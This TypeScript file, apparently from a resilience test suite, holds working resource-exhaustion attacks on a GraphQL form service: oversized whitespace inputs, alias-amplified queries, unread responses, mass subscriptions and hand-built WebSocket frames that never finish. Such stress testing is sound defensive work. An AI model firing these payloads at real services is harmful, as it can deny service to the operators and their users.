import { AsyncLocalStorage } from "node:async_hooks";
import { createClient } from "graphql-ws";
import { WebSocket } from "ws";
import { type Attack, type AttackPlace, holdConnection, noteHit, postGraphQL, repeat } from "./repeats.ts";

const BLANKS = 80 * 1024;
const ALIASES = Array.from({ length: 30 }, (_, n) => `a${n}: data`).join(" ");
const LARGE_QUERY = `query ($id: ID!) { form(id: $id) { submissions(first: 100) { nodes { ${ALIASES} } } } }`;

/** A2: a name of 80 KB of blanks. */
export const blankNames: Attack = (place) => {
  const query = "mutation ($name: String!) { createForm(input: { name: $name }) { form { id } } }";
  repeat(4, () => postGraphQL(place, query, { name: `a${" ".repeat(BLANKS)}a` }));
};

/** A3 and A14: the largest answers, on more connections than an account has slots. */
export const largeAnswers: Attack = (place) => {
  repeat(16, () => postGraphQL(place, LARGE_QUERY, { id: place.attacker.formId }));
};

/** A4: large answers that are not read. */
export const unreadAnswers: Attack = (place) => {
  const body = JSON.stringify({ query: LARGE_QUERY, variables: { id: place.attacker.formId } });
  const head = [
    "POST /api/v1/graphql HTTP/1.1",
    "Host: f.example.pe",
    "Content-Type: application/json",
    `Authorization: Bearer ${place.attacker.key}`,
    `Content-Length: ${body.length}`,
  ];
  repeat(40, () => holdConnection(place, `${head.join("\r\n")}\r\n\r\n${body}`));
};

/** Two hundred different subscriptions of the attacker's own submissions. */
export const subscriptions: Attack = ({ url, attacker }) => {
  for (let socket = 0; socket < 4; socket += 1) {
    const client = createClient({
      url: `${url.replace("http:", "ws:")}/api/v1/graphql`,
      webSocketImpl: WebSocket,
      on: { connected: AsyncLocalStorage.bind(() => noteHit("held")) },
      connectionParams: { authorization: `Bearer ${attacker.key}` },
    });
    for (let n = 0; n < 50; n += 1) {
      const query = `subscription { submissionCreated { s${socket}n${n}: cursor submission { id data } } }`;
      client.subscribe({ query }, { next: ignore, error: ignore, complete: ignore });
    }
  }
};

/** A7: sockets whose first frame announces 1 MB and never ends. */
export const unfinishedFrames: Attack = (place) => {
  repeat(300, () => holdConnection(place, upgradeWithFrame(place)));
};

/** The head of a WebSocket with a first frame that announces a million bytes and has a tenth of them. */
export function upgradeWithFrame({ url }: Pick<AttackPlace, "url">): string {
  const head = [
    "GET /api/v1/graphql HTTP/1.1",
    `Host: ${new URL(url).host}`,
    "Connection: Upgrade",
    "Upgrade: websocket",
    "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
    "Sec-WebSocket-Protocol: graphql-transport-ws",
  ];
  return `${head.join("\r\n")}\r\n\r\n${FRAME_HEAD}${"a".repeat(100_000)}`;
}

/** The head of a masked text frame with a million bytes, as Latin-1 characters: two bytes, the length in eight, the mask in four. */
const FRAME_HEAD = "\u0081\u00ff\0\0\0\0\0\u000f\u0042\u0040mask";

function ignore(): void {
  // What the service answers does not matter to an attacker.
}
